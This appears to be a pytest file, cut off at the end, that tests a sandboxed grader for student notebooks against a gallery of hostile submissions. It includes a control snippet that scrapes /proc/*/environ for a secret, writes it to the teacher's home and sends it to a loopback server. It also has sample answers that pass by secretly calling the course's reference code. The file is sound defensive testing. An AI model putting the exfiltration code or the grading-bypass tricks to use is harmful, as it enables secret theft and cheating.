"""Grading untrusted notebooks: the hostile gallery (tests/hostile/) graded in one folder with honest
submissions, calls into the reference found however they are made, the refusal without a sandbox, and the
sandbox's pieces one by one.

The gallery is graded by the grader's command line (``python -m homework grade --jobs 2``), as a teacher runs
it: it exits 0; every student has rows with a clear status and reason; no hostile submission gets a point
without a flag; every honest one gets exactly what it gets when graded alone with ``--jobs 1``; the grader's
peak memory stays under 300 MB; the CSV opens safely (no cell a spreadsheet would run, nothing raw for a
terminal) and so do the JSON and the printed lines; and nothing outside the sandboxes' scratch folders
changed (hashes of lstm_core/, lstm_lab/, homework/, the fake home the grader runs with, the submissions and a
folder of the test's, before and after; no file planted in site-packages, /, /root, /work or /tmp). A control
run without the sandbox shows the attacks are real.
"""

import csv
import hashlib
import json
import os
import pathlib
import re
import secrets
import shutil
import site
import socket
import subprocess
import sys
import threading
import time

import nbformat
import numpy as np
import pytest

pytest.importorskip("nbclient")
if not sys.platform.startswith("linux"):
    pytest.skip("the sandbox is Linux-only (bubblewrap)", allow_module_level=True)

from hostile import _shapes as shapes  # noqa: E402
from test_homework import ROOT, solved, source, with_answer, write  # noqa: E402

from homework import channel, export, hw, judging, sandbox, wire, zmtp  # noqa: E402
from homework.kernel import Kernel, KernelDied  # noqa: E402

HOSTILE = ROOT / "tests" / "hostile"
COMMON = (HOSTILE / "_common.py").read_text()
CASES = sorted(p.stem for p in HOSTILE.glob("*.py") if not p.name.startswith("_"))
TIMEOUT = 4  # seconds per cell
SUBMISSION_TIMEOUT = 60  # the long honest notebook (3,000 cells) needs about 40 s on a busy machine
JOBS = 2
MARKER = "lstm-lab-hostile-" + secrets.token_hex(6)
SECRET_NAME, SECRET = "LSTM_LAB_TEST_SECRET", "s3cr3t-" + secrets.token_hex(8)
HONEST = ("zz1_good", "zz2_no_tanh", "zz3_blank")
EXPECT = {"zz1_good": 10, "aa0_good": 10, "zz2_no_tanh": 0, "zz3_blank": 0, **shapes.EXPECT}
EARNS = {"sleeper": "a correct answer that leaves a thread and tries to leave a process behind"}
FORWARD_NO_TANH = """import lstm_core
import lstm_lab.bugs as _bugs

_m = _bugs.step_bug("no output tanh")


def lstm_step_forward(x, h_prev, c_prev, W, b):
    return _m.lstm_step(x, h_prev, c_prev, lstm_core.LSTMParams(W, b))"""


def honest(student):
    if student.endswith("good"):
        return solved("a1_forward")
    if student.endswith("no_tanh"):
        return with_answer("a1_forward", "forward_answer", FORWARD_NO_TANH)
    return hw.student_version(source("a1_forward"))


class Server:
    """A TCP server on every address of the machine (loopback included) that records who connects."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("0.0.0.0", 0))
        self.sock.listen(50)
        self.sock.settimeout(0.2)
        self.port, self.received, self.stop = self.sock.getsockname()[1], [], False
        self.thread = threading.Thread(target=self._loop, daemon=True)
        self.thread.start()

    def _loop(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(65536))
                except OSError:
                    self.received.append(b"")

    def close(self):
        self.stop = True
        self.thread.join()
        self.sock.close()


class UnixServer(Server):
    """The same on a Unix socket of the host's (where a kernel's link would lead a grader that follows it)."""

    def __init__(self, path):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.bind(str(path))
        self.sock.listen(50)
        self.sock.settimeout(0.2)
        self.path, self.received, self.stop = path, [], False
        self.thread = threading.Thread(target=self._loop, daemon=True)
        self.thread.start()


def host_ip():
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.connect(("192.0.2.1", 9))  # no packet is sent: this only picks the outgoing address
            return s.getsockname()[0]
    except OSError:
        return "127.0.0.2"


def teachers_process():
    """Another of the teacher's processes, with the secret in its environment (readable in /proc/PID/environ)."""
    return subprocess.Popen(["sleep", "600"], env={**os.environ, SECRET_NAME: SECRET})


def answer(case, fill):
    text = COMMON + "\n\n" + (HOSTILE / f"{case}.py").read_text()
    for name, value in fill.items():
        text = text.replace(f"__{name}__", str(value))
    return text


def hostile_notebook(case, fill):
    """Assignment 1 with the hostile answer; '### NEW CELL' in a case starts extra cells after it."""
    first, *extra = answer(case, fill).split("### NEW CELL\n")
    nb = with_answer("a1_forward", "forward_answer", first)
    at = next(k for k, c in enumerate(nb.cells) if hw.nbg(c).get("grade_id") == "forward_answer")
    nb.cells[at + 1 : at + 1] = [nbformat.v4.new_code_cell(src) for src in extra]
    return nb


def snapshot(*folders):
    """{path: content hash} of every file below ``folders``."""
    out = {}
    for folder in folders:
        for dirpath, dirnames, filenames in os.walk(folder):
            dirnames[:] = [d for d in dirnames if d != "__pycache__"]
            for f in filenames:
                p = os.path.join(dirpath, f)
                try:
                    st = os.lstat(p)
                    if not os.path.isfile(p) or os.path.islink(p):
                        out[p] = (st.st_size, st.st_mtime_ns, st.st_mode)
                    else:
                        out[p] = hashlib.sha256(pathlib.Path(p).read_bytes()).hexdigest()
                except OSError as err:
                    out[p] = repr(err)
    return out


def processes_with(marker):
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if marker.encode() in pathlib.Path(f"/proc/{pid}/cmdline").read_bytes():
                found.append(int(pid))
        except OSError:
            pass
    return found


def by_student(report):
    return {(e["student"], e["assignment"]): {q["question"]: q for q in e["questions"]} for e in report}


def build_gallery(base, fill):
    """The submissions folder: every answer-cell case, every file-shaped case, and the honest ones."""
    subs = base / "submissions"
    for student in (*HONEST, "aa0_good"):  # aa0_good is graded before every hostile one
        write(subs, student, "a1_forward", honest(student))
    for case in CASES:
        write(subs, f"h_{case}", "a1_forward", hostile_notebook(case, fill))
    kit = shapes.Kit(
        solved=lambda: solved("a1_forward"),
        blank=lambda: hw.student_version(source("a1_forward")),
        source=str(hw.assignments()["a1_forward"]),
        other=str(subs / "zz1_good"),
    )
    for student, build in {**shapes.HOSTILE, **shapes.HONEST}.items():
        build(str(subs), student, kit)
    return subs


def grade_by_command(subs, grades, home, jobs):
    """Run ``python -m homework grade`` as a teacher would; (exit code, stdout, stderr, seconds)."""
    env = {**os.environ, "HOME": str(home), SECRET_NAME: SECRET}
    cmd = [
        sys.executable,
        "-m",
        "homework",
        "grade",
        str(subs),
        "--csv",
        f"{grades}/g.csv",
        "--json",
        f"{grades}/g.json",
    ]
    cmd += ["--timeout", str(TIMEOUT), "--submission-timeout", str(SUBMISSION_TIMEOUT), "--jobs", str(jobs)]
    start = time.monotonic()
    out = subprocess.run(cmd, cwd=ROOT, env=env, capture_output=True, timeout=1800)
    return out.returncode, out.stdout, out.stderr, time.monotonic() - start


@pytest.fixture(scope="module")
def gallery(tmp_path_factory):
    base = tmp_path_factory.mktemp("gallery")
    home, victim, grades, host_tmp = (base / n for n in ("home", "victim", "grades", "tmp"))
    for d in (home, victim, grades, host_tmp):
        d.mkdir()
    (victim / "notes.txt").write_text("keep me")
    (home / ".bashrc").write_text("# the teacher's")
    server, unix = Server(), UnixServer(host_tmp / "host.sock")
    teacher = teachers_process()
    fill = dict(
        FAKE_HOME=home,
        VICTIM=victim,
        GRADES=grades,
        HOST_TMP=host_tmp,
        HOST_SOCKET=unix.path,
        REPO=ROOT,
        VENV=sys.prefix,
        OTHER_SUBMISSION=base / "submissions" / "zz1_good",
        PORT=server.port,
        HOST_IP=host_ip(),
        MARKER=MARKER,
        PYTEST_PID=os.getpid(),
        SECRET_NAME=SECRET_NAME,
        TIMEOUT=TIMEOUT,
    )
    subs = build_gallery(base, fill)
    watched = [ROOT / "lstm_core", ROOT / "lstm_lab", ROOT / "homework", ROOT / "tests" / "hostile", home, victim, subs]
    before = snapshot(*watched)
    code, stdout, stderr, elapsed = grade_by_command(subs, grades, home, JOBS)
    time.sleep(0.5)
    after = snapshot(*watched)
    leftovers = processes_with(MARKER)
    for s in (server, unix):
        s.close()
    teacher.kill()
    teacher.wait()
    alone = base / "alone"
    for student in os.listdir(subs):
        if not student.startswith("h_"):
            shutil.copytree(subs / student, alone / student)
    alone_report = hw.grade(alone, grades / "alone.csv", grades / "alone.json", timeout=TIMEOUT, quiet=True, jobs=1)
    report = json.loads((grades / "g.json").read_text()) if code == 0 else []
    yield dict(
        code=code,
        stdout=stdout,
        stderr=stderr,
        elapsed=elapsed,
        report=report,
        rows=by_student(report),
        alone=by_student(alone_report),
        folders=sorted(os.listdir(os.fsencode(subs))),
        before=before,
        after=after,
        leftovers=leftovers,
        received=server.received + unix.received,
        csv_bytes=(grades / "g.csv").read_bytes() if code == 0 else b"",
        json_text=(grades / "g.json").read_text() if code == 0 else "",
        home=home,
        victim=victim,
        grades=grades,
    )
    for pid in processes_with(MARKER):
        os.kill(pid, 9)
    for p in (pathlib.Path("/root"), pathlib.Path("/"), pathlib.Path("/work"), pathlib.Path("/tmp")):
        (p / f"hostile-{MARKER}.txt").unlink(missing_ok=True)


def feedback(gallery, case, question="forward"):
    return gallery["rows"][f"h_{case}", "a1_forward"][question]


def students(gallery):
    return {e["student"] for e in gallery["report"]}


# --- the class is graded --------------------------------------------------------------------------------------
def test_the_grader_exits_0_and_every_student_has_rows(gallery):
    assert gallery["code"] == 0, gallery["stderr"].decode("utf-8", "replace")[-3000:]
    want = {export.folder_name(os.fsdecode(f)) for f in gallery["folders"]}
    assert students(gallery) == want
    for entry in gallery["report"]:
        for r in entry["questions"]:
            assert r["status"] in ("passed", "failed", "integrity", "error", "manual"), (entry["student"], r)
            assert r["status"] == "passed" or r["feedback"], (entry["student"], r)


def test_the_grader_reports_its_peak_memory_under_300_mb(gallery):
    summary = gallery["stdout"].decode().strip().splitlines()[-1]
    mb = float(re.search(r"grader peak memory (\d+) MB", summary).group(1))
    assert 0 < mb < 300, summary


@pytest.mark.parametrize("case", [c for c in CASES if c not in EARNS] + list(shapes.HOSTILE))
def test_a_hostile_submission_earns_no_point_without_a_flag(gallery, case):
    student = case if case in shapes.HOSTILE else f"h_{case}"
    rows = {q: r for (s, _), qs in gallery["rows"].items() if s == student for q, r in qs.items()}
    assert rows, f"{student} has no row"
    for r in rows.values():
        assert r["status"] != "passed" or r["flags"], r
        assert r["points"] == 0 or r["flags"], r


@pytest.mark.parametrize("student", [*HONEST, "aa0_good", *shapes.EXPECT])
def test_honest_submissions_get_what_they_get_when_graded_alone(gallery, student):
    got, alone = gallery["rows"][student, "a1_forward"], gallery["alone"][student, "a1_forward"]
    assert {q: (r["points"], r["status"], r["feedback"], r["flags"]) for q, r in got.items()} == {
        q: (r["points"], r["status"], r["feedback"], r["flags"]) for q, r in alone.items()
    }
    assert got["forward"]["points"] == EXPECT[student], got["forward"]
    if student == "zz2_no_tanh":
        assert "tanh" in got["forward"]["feedback"]  # the classic bug is still named, after the attack on the judge
    assert not got["forward"]["flags"]


def test_the_csv_opens_safely_in_a_spreadsheet(gallery):
    text = gallery["csv_bytes"].decode("utf-8")  # every field encoded, whatever the student wrote
    rows = list(csv.reader(text.splitlines()))
    assert "\r" not in text.replace("\r\n", "")  # only the CSV's own line ends
    assert rows[0] == export.COLUMNS and len(rows) > len(students(gallery))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    formula = [row for row in rows if row[0] == "h_csv_formula" and row[2] == "forward"][0]
    assert formula[6].startswith("'=HYPERLINK("), formula


def test_nothing_raw_reaches_a_terminal_or_a_file(gallery):
    for name, data in (
        ("csv", gallery["csv_bytes"]),
        ("json", gallery["json_text"].encode()),
        ("stdout", gallery["stdout"]),
    ):
        text = data.decode("utf-8").replace("\r\n", "\n")  # the CSV's own line ends
        raw = [
            c
            for c in set(text)
            if c not in "\n" and (ord(c) < 32 or 0x7F <= ord(c) < 0xA0 or 0x202A <= ord(c) <= 0x202E)
        ]
        assert not raw, (name, raw)
    r = feedback(gallery, "terminal_escapes")
    for shown in ("\\n", "\\x1b" if "\\x1b" in r["feedback"] else "\\u001b", "\\u202e", "\\ud800"):
        assert shown in r["feedback"], r
    assert "zz6_caf\\xe9" in students(gallery)


def test_a_file_that_is_not_a_notebook_gets_a_row_with_the_reason(gallery):
    why = {
        "h_symlink_to_source": "symbolic link",
        "h_symlink_folder": "symbolic link",
        "h_fifo": "FIFO",
        "h_folder_named_like_the_notebook": "a folder, not a notebook file",
        "h_huge_notebook": "larger than 8 MiB",
    }
    for student, words in why.items():
        rows = [r for (s, _), qs in gallery["rows"].items() if s == student for r in qs.values()]
        assert rows and all(r["status"] == "error" and words in r["feedback"] for r in rows), (student, rows)


def test_odd_metadata_is_graded_like_any_notebook(gallery):
    r = gallery["rows"]["h_odd_metadata", "a1_forward"]["forward"]
    assert r["status"] == "failed" and "not implemented" in r["feedback"], r


def test_nothing_outside_the_scratch_folders_changed(gallery):
    before, after = gallery["before"], gallery["after"]
    changed = sorted(k for k in {*before, *after} if before.get(k) != after.get(k))
    assert not changed, changed
    for p in ("/root", "/", "/work", "/tmp"):
        assert not os.path.exists(f"{p}/hostile-{MARKER}.txt"), p
    assert sorted(os.listdir(gallery["home"])) == [".bashrc"]
    assert sorted(os.listdir(gallery["victim"])) == ["notes.txt"]
    assert sorted(os.listdir(gallery["grades"])) == ["alone.csv", "alone.json", "g.csv", "g.json"]
    for d in {*site.getsitepackages(), site.getusersitepackages()}:  # (the venv is shared: not hashed)
        assert not os.path.exists(os.path.join(d, "zz_hostile.pth")), d


def test_nothing_a_submission_started_outlives_its_grading(gallery):
    assert gallery["leftovers"] == []


# --- the hidden test that counts is the one that ran ----------------------------------------------------------
@pytest.mark.parametrize("case", ["transformer_swap", "hook_swap", "transformer_precompute"])
def test_taking_over_the_hidden_test_is_an_integrity_failure(gallery, case):
    r = feedback(gallery, case)
    assert r["status"] == "integrity" and r["points"] == 0, r


def test_a_flooded_report_channel_costs_that_submission_only(gallery):
    r = feedback(gallery, "flood_report")
    assert r["status"] == "integrity" and "flooded or garbled" in r["feedback"], r


def test_working_around_the_watch_is_flagged(gallery):
    r = feedback(gallery, "forge_reports")
    flags = " ".join(r["flags"])
    for what in ("trace or profile function", "ctypes", "process's memory", "report channel"):
        assert what in flags, r


# --- reference use -----------------------------------------------------------------------------------------
def test_a_thread_started_before_the_hidden_test_is_watched_too(gallery):
    r = feedback(gallery, "early_thread")
    assert any("lstm_core.lstm.lstm_step" in f for f in r["flags"]), r
    r = feedback(gallery, "unwatched_thread")
    assert any("a thread the watch does not see" in f for f in r["flags"]), r


def test_no_process_can_be_started_to_compute_an_answer(gallery):
    r = feedback(gallery, "child_process")
    assert r["points"] == 0 and r["status"] == "failed", r
    probe = feedback(gallery, "fork_bomb")["feedback"]
    assert "forked 0 processes, then: Operation not permitted" in probe, probe


# --- limits and the boundary ---------------------------------------------------------------------------------
def test_memory_the_address_space_limit_does_not_count_is_refused(gallery):
    probe = feedback(gallery, "memfd")["feedback"]
    assert "memfd: Operation not permitted" in probe and "shmget: refused" in probe, probe
    assert (
        "shm file: No space left on device after 0 MiB" in probe
        or "shm file: No space left on device after 1 MiB" in probe
    ), probe


def test_a_million_files_stop_at_the_file_limit(gallery):
    probe = feedback(gallery, "many_files")["feedback"]
    n = int(re.search(r"stopped at (\d+)", probe).group(1))
    assert n <= sandbox.TMPFS[sandbox.SCRATCH][1], probe


def test_the_grader_never_follows_a_kernel_back_to_the_host(gallery):
    r = feedback(gallery, "socket_swap")
    assert r["status"] == "error" and "closed its connection" in r["feedback"], r
    assert gallery["received"] == []


def test_proc_shows_nothing_of_the_host(gallery):
    probe = feedback(gallery, "proc_snoop")["feedback"]
    assert re.search(r"proc_snoop: \['looked at \d+ files'\]", probe), probe


def test_a_reply_too_large_or_unreadable_costs_that_submission_only(gallery):
    r = feedback(gallery, "huge_reply")
    assert r["status"] == "error" and "more than it accepts" in r["feedback"], r
    r = feedback(gallery, "malformed_reply")
    assert r["status"] == "error" and "could not read" in r["feedback"], r
    r = feedback(gallery, "huge_answers")
    assert r["status"] == "failed" and "shape" in r["feedback"], r


def test_the_writes_were_tried_and_refused(gallery):
    text = feedback(gallery, "write_outside")["feedback"]
    assert "PROBE write_outside" in text and "refused 10 of 11" in text, text  # all but the sandbox's own HOME
    assert all(p.startswith(sandbox.SCRATCH) for p in re.findall(r"wrote (\S+?)'", text)), text


def test_no_secret_and_no_hidden_test_reached_the_report(gallery):
    text = gallery["json_text"] + gallery["csv_bytes"].decode()
    assert SECRET not in text
    for leak in ("BEGIN HIDDEN", "hidden_check(", "BEGIN SOLUTION", "0.5 * (1 + np.tanh(0.5 * a"):
        assert leak not in text, leak
    probe = feedback(gallery, "read_secrets")["feedback"]
    assert "PROBE read_secrets" in probe and "env: {}" in probe, probe


def test_no_connection_left_the_sandbox(gallery):
    probe = feedback(gallery, "network")["feedback"]
    assert "PROBE network" in probe and "connected" not in probe, probe


def test_a_runaway_allocation_fails_inside_the_submission(gallery):
    probe = feedback(gallery, "memory")["feedback"]
    assert "numpy 4 GiB: MemoryError" in probe and "bytearray 4 GiB: MemoryError" in probe, probe


def test_an_output_flood_costs_the_grader_nothing(gallery):
    r = feedback(gallery, "print_flood")
    assert "longer than" in r["feedback"] or "MemoryError" in r["feedback"] or "time limit" in r["feedback"], r


def test_the_grader_cannot_be_killed_from_a_submission(gallery):
    probe = feedback(gallery, "kill_grader")["feedback"]
    assert "PROBE kill_grader" in probe and "killed" not in probe.replace("killed -1", ""), probe


def test_an_interrupt_that_is_ignored_stops_the_kernel(gallery):
    r = feedback(gallery, "ignore_interrupt")
    assert r["status"] == "error" and "did not stop when interrupted" in r["feedback"], r


def test_a_submission_cannot_hold_the_grader_longer_than_its_time_limit(gallery):
    r = feedback(gallery, "many_slow_cells")
    assert r["status"] == "error" and "time limit" in r["feedback"], r
    n = len(CASES) + len(shapes.HOSTILE) + len(shapes.HONEST) + 4
    assert gallery["elapsed"] < (SUBMISSION_TIMEOUT + 15) * n / JOBS


def test_a_correct_answer_that_leaves_a_sleeping_thread_earns_its_points(gallery):
    assert feedback(gallery, "sleeper")["points"] == 10, feedback(gallery, "sleeper")


# --- the reference, however it is called --------------------------------------------------------------
FORWARD_BY_REFERENCE = {
    "direct": """from lstm_core import LSTMParams, lstm_step


def lstm_step_forward(x, h_prev, c_prev, W, b):
    return lstm_step(x, h_prev, c_prev, LSTMParams(W, b))""",
    "importlib": """import importlib


def lstm_step_forward(x, h_prev, c_prev, W, b):
    m = importlib.import_module("lstm_core.lstm")
    return m.lstm_step(x, h_prev, c_prev, importlib.import_module("lstm_core").LSTMParams(W, b))""",
    "replays_a_marker": """import linecache
import sys

from lstm_core import LSTMParams, lstm_step


def lstm_step_forward(x, h_prev, c_prev, W, b):
    marker = linecache.getlines(sys._getframe().f_code.co_filename)[0]  # this cell's grading marker (no seed)
    compile(marker + "pass\\n", "replayed", "exec")  # compiled again mid-test: the watch must stay on
    return lstm_step(x, h_prev, c_prev, LSTMParams(W, b))""",
    "dunder_import": """def lstm_step_forward(x, h_prev, c_prev, W, b):
    core = __import__("lstm_core")
    return getattr(core, "lstm" + "_step")(x, h_prev, c_prev, core.LSTMParams(W, b))""",
    "saved_reference": """import sys

_saved = [sys.modules["lstm_lab.homework"].lstm_step_compat]


def lstm_step_forward(x, h_prev, c_prev, W, b, _f=_saved):
    return _f[0](x, h_prev, c_prev, W, b)""",
    "reload_at_call_time": """import importlib

import lstm_core


def lstm_step_forward(x, h_prev, c_prev, W, b):
    m = importlib.reload(importlib.import_module("lstm_core.lstm"))
    return m.lstm_step(x, h_prev, c_prev, lstm_core.LSTMParams(W, b))""",
    "fresh_copy_from_file": """import importlib.util

import lstm_core

_spec = importlib.util.spec_from_file_location("my_lstm", lstm_core.__path__[0] + "/lstm.py")
_mine = importlib.util.module_from_spec(_spec)
_mine.__package__ = "lstm_core"
import sys

sys.modules["my_lstm"] = _mine
_spec.loader.exec_module(_mine)


def lstm_step_forward(x, h_prev, c_prev, W, b):
    return _mine.lstm_step(x, h_prev, c_prev, lstm_core.LSTMParams(W, b))""",
    "no_op_mutant": """import lstm_core
import lstm_core.lstm
from lstm_lab.bugs import load_mutant

_m = load_mutant(lstm_core.lstm, "h_t = o_t * tanh_c", "h_t = o_t * tanh_c")


def lstm_step_forward(x, h_prev, c_prev, W, b):
    return _m.lstm_step(x, h_prev, c_prev, lstm_core.LSTMParams(W, b))""",
    "checks_reference": """def lstm_step_forward(x, h_prev, c_prev, W, b):
    out = hw.reference("forward", {"x": x, "h_prev": h_prev, "c_prev": c_prev, "W": W, "b": b})
    return out["h"], out["c"], None""",
    "in_a_thread": """import threading

import lstm_core


def lstm_step_forward(x, h_prev, c_prev, W, b):
    out = []
    t = threading.Thread(target=lambda: out.append(lstm_core.lstm_step(x, h_prev, c_prev, lstm_core.LSTMParams(W, b))))
    t.start()
    t.join()
    return out[0]""",
    "in_a_raw_thread": """import _thread
import time

import lstm_core


def lstm_step_forward(x, h_prev, c_prev, W, b):
    out = []
    _thread.start_new_thread(lambda: out.append(lstm_core.lstm_step(x, h_prev, c_prev, lstm_core.LSTMParams(W, b))), ())
    while not out:
        time.sleep(0.001)
    return out[0]""",
}


REFUSED = {  # a way around the old watch that earns nothing now: the grader does not run the notebook's check
    "own_hidden_check": """import os

import lstm_core


def lstm_step_forward(x, h_prev, c_prev, W, b):
    raise NotImplementedError


def _mine(question, fn, seed, forward=None):
    outs = []
    for c in hw.cases(question, seed):
        h, cc, _ = lstm_core.lstm_step(c["x"], c["h_prev"], c["c_prev"], lstm_core.LSTMParams(c["W"], c["b"]))
        outs.append({"h": h, "c": cc})
    with open(os.path.join(os.environ["HOME"], "outs.txt"), "w") as f:  # where an old grader's file went
        f.write(repr(outs))


hw.self_check = lambda *a, **k: None
hw.hidden_check = _mine""",
}


def pasted_copy():
    """lstm_core's lstm_step, pasted into the answer cell with the names it needs."""
    text = (ROOT / "lstm_core" / "lstm.py").read_text()
    start = text.index("def lstm_step(")
    body = text[start : text.index("\ndef ", start + 1)].rstrip() + "\n"
    return (
        "import numpy as np\nfrom lstm_core.lstm import *  # noqa\nfrom lstm_core.lstm import SQUASH, check_step, "
        "check_choice, sigmoid, LSTMParams\n\n\n"
        + body
        + "\n\ndef lstm_step_forward(x, h_prev, c_prev, W, b):\n    return lstm_step(x, h_prev, c_prev, LSTMParams(W, b))\n"
    )


OTHER_BY_REFERENCE = {  # (assignment, answer cell, code, question, the reference it must name)
    "backward_by_reference": (
        "a2_backward",
        "backward_answer",
        "import lstm_core\n\n\ndef lstm_step_backward(dh, dc, cache):\n    return lstm_core.lstm_step_backward(dh, dc, cache)",
        "backward",
        "lstm_core.lstm.lstm_step_backward",
    ),
    "gradcheck_by_reference": (
        "a2_backward",
        "gradcheck_answer",
        "import lstm_core\n\n\ndef numerical_gradient(f, x, h=1e-5):\n    return lstm_core.numerical_gradient(f, x, eps=h)",
        "gradcheck",
        "lstm_core.gradcheck.numerical_gradient",
    ),
    "bptt_by_reference": (
        "a3_bptt",
        "bptt_answer",
        "from lstm_core import lstm_backward, lstm_forward\n\n\ndef lstm_bptt(xs, W, b, dhs):\n"
        "    g = lstm_backward(dhs, lstm_forward(xs, LSTMParams(W, b)))\n    return g.W, g.b, g.c_norm",
        "bptt",
        "lstm_core.lstm.lstm_backward",
    ),
    "memory_by_reference": (
        "a4_concepts",
        "memory_answer",
        "def memory_length(b_f):\n    return float(hw.reference('memory', {'b_f': b_f})['length'])",
        "memory",
        "lstm_lab.homework.reference",
    ),
    "sample_by_reference": (
        "a5_language_model",
        "sample_answer",
        "from lstm_core import charlm\n\n\ndef sample_ids(W, b, W_y, b_y, prime_ids, n, temperature, rng):\n"
        "    p, V = LSTMParams(W, b), W_y.shape[0]\n"
        "    h = c = np.zeros((1, p.hidden_size))\n"
        "    out = []\n"
        "    for k in list(prime_ids) + [None] * n:\n"
        "        if k is None:\n"
        "            k = int(rng.choice(V, p=charlm.softmax(h[0] @ W_y.T + b_y, temperature)))\n"
        "            out.append(k)\n"
        "        run = lstm_forward(np.eye(V)[[k]][None], p, h, c)\n"
        "        h, c = run.h[-1], run.c[-1]\n"
        "    return np.array(out)",
        "sample",
        "lstm_core.charlm.softmax",
    ),
}


@pytest.fixture(scope="module")
def by_reference(tmp_path_factory):
    subs = tmp_path_factory.mktemp("reference")
    for name, code in {**FORWARD_BY_REFERENCE, **REFUSED, "pasted_copy": pasted_copy()}.items():
        write(subs, name, "a1_forward", with_answer("a1_forward", "forward_answer", code))
    for name, (assignment, cell, code, *_) in OTHER_BY_REFERENCE.items():
        write(subs, name, assignment, with_answer(assignment, cell, code))
    for name in ("a2_backward", "a3_bptt", "a4_concepts", "a5_language_model"):
        write(subs, "honest", name, solved(name))
    explores = solved("a2_backward")  # its own answer, and a look at the reference outside the hidden cases
    for cell in explores.cells:
        if hw.nbg(cell).get("grade_id") == "gradcheck_answer":
            cell.source += "\n\n\nimport lstm_core\n\nprint(lstm_core.numerical_gradient(lambda: 0.0, np.zeros(2)))"
    write(subs, "explores", "a2_backward", explores)
    report = hw.grade(subs, subs / "g.csv", subs / "g.json", timeout=120, jobs=JOBS)  # a5's samplers are slow
    return by_student(report)


@pytest.mark.parametrize("student", [*FORWARD_BY_REFERENCE, "pasted_copy"])
def test_a_forward_step_that_calls_the_reference_is_flagged_however_it_calls_it(by_reference, student):
    r = by_reference[student, "a1_forward"]["forward"]
    assert r["points"] == 10, r  # the outputs are right: the points stand, and the teacher is told
    assert any("called the course's reference" in f for f in r["flags"]), r


@pytest.mark.parametrize("student", REFUSED)
def test_a_hidden_check_of_ones_own_earns_nothing(by_reference, student):
    r = by_reference[student, "a1_forward"]["forward"]
    assert r["points"] == 0 and r["status"] == "failed", r


@pytest.mark.parametrize("student", OTHER_BY_REFERENCE)
def test_other_questions_answered_by_the_reference_are_flagged(by_reference, student):
    assignment, _, _, question, name = OTHER_BY_REFERENCE[student]
    rows = by_reference[student, assignment]
    assert rows[question]["points"] == rows[question]["max"], rows[question]
    assert any(name in f for f in rows[question]["flags"]), rows[question]
    for q, r in rows.items():
        if q != question:
            assert not r["flags"], r  # only the question the reference answered


@pytest.mark.parametrize(
    "student,assignment",
    [
        ("honest", "a2_backward"),
        ("honest", "a3_bptt"),
        ("honest", "a4_concepts"),
        ("honest", "a5_language_model"),
        ("explores", "a2_backward"),
    ],
)
def test_honest_answers_using_what_the_assignment_allows_are_not_flagged(by_reference, student, assignment):
    # a2's given forward step and a3's loop over lstm_step / lstm_step_backward call lstm_core legitimately,
    # and so does a call into the reference outside the hidden cases
    for r in by_reference[student, assignment].values():
        assert r["status"] in ("passed", "manual") and not r["flags"], r


def test_an_answer_that_fails_or_runs_too_long_is_not_flagged(tmp_path):
    """An error's traceback (IPython compiles the earlier cell's source again to show it) and an interrupted
    hidden test are ordinary failures, not tampering."""
    raises = "def lstm_step_forward(x, h_prev, c_prev, W, b):\n    raise ValueError('not done yet')"
    slow = "import time\n\n\ndef lstm_step_forward(x, h_prev, c_prev, W, b):\n    time.sleep(60)"
    for name, code in {"raises": raises, "slow": slow}.items():
        write(tmp_path, name, "a1_forward", with_answer("a1_forward", "forward_answer", code))
    rows = by_student(hw.grade(tmp_path, tmp_path / "g.csv", tmp_path / "g.json", timeout=5, jobs=JOBS))
    for name, why in (("raises", "not done yet"), ("slow", "ran longer than 5 s")):
        r = rows[name, "a1_forward"]["forward"]
        assert r["points"] == 0 and r["status"] == "failed" and why in r["feedback"], r
        assert not r["flags"], r


# --- without a sandbox ------------------------------------------------------------------------------
def test_grading_refuses_without_a_sandbox_unless_told(tmp_path, monkeypatch, capsys):
    write(tmp_path / "subs", "ada", "a1_forward", solved("a1_forward"))
    write(tmp_path / "subs", "ben", "a1_forward", solved("a1_forward"))
    monkeypatch.setattr(sandbox, "bwrap_path", lambda: None)
    monkeypatch.setattr(sandbox, "_probed", {})
    out = tmp_path / "g"
    args = ["grade", str(tmp_path / "subs"), "--csv", f"{out}.csv", "--json", f"{out}.json", "--timeout", "20"]
    assert hw.main(args) == 2
    err = capsys.readouterr().err
    assert "refusing to grade" in err and "--no-sandbox" in err and "bubblewrap" in err
    assert not os.path.exists(f"{out}.json")
    assert hw.main([*args, "--no-sandbox"]) == 0
    err = capsys.readouterr().err
    assert err.count("WARNING: grading WITHOUT a sandbox") == 1, err  # once, for the whole run
    report = json.loads(pathlib.Path(f"{out}.json").read_text())
    assert [e["questions"][0]["points"] for e in report] == [10, 10]
    assert all(not e["sandboxed"] for e in report)


def test_grading_refuses_where_bubblewrap_cannot_make_a_sandbox(tmp_path, monkeypatch, capsys):
    write(tmp_path / "subs", "ada", "a1_forward", solved("a1_forward"))
    monkeypatch.setattr(sandbox, "bwrap_path", lambda: "/bin/false")
    monkeypatch.setattr(sandbox, "_probed", {})
    assert (
        hw.main(["grade", str(tmp_path / "subs"), "--csv", str(tmp_path / "g.csv"), "--json", str(tmp_path / "g.json")])
        == 2
    )
    assert "could not start a sandboxed Python" in capsys.readouterr().err


CONTROL = """import glob, os, socket


def lstm_step_forward(x, h_prev, c_prev, W, b):
    raise NotImplementedError


loot = []
for p in glob.glob("/proc/*/environ"):
    try:
        data = open(p, "rb").read()
    except OSError:
        continue
    if b"__SECRET_NAME__=" in data:
        loot.append(data.split(b"__SECRET_NAME__=")[1].split(b"\\0")[0].decode())
with open("__FAKE_HOME__/loot.txt", "w") as f:
    f.write(repr(loot))
with socket.create_connection(("127.0.0.1", __PORT__), timeout=3) as s:
    s.sendall(repr(loot).encode())"""


def test_without_the_sandbox_the_same_attacks_succeed(tmp_path, monkeypatch):
    """The gallery's assertions can fail: unsandboxed, a submission writes the teacher's home, reads the
    teacher's environment and reaches a loopback server."""
    home, server = tmp_path / "home", Server()
    home.mkdir()
    code = CONTROL.replace("__FAKE_HOME__", str(home)).replace("__PORT__", str(server.port))
    write(
